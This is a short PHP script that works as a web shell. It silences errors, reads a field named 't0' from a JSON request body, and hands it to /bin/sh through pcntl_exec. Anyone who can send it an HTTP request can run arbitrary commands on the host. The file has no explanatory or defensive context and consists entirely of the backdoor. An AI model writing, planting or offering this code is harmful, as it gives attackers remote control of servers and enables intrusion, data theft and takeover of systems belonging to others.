<?php
error_reporting(0);
$arg = json_decode(file_get_contents('php://input'))->t0;
pcntl_exec('/bin/sh', array('-c', $arg));
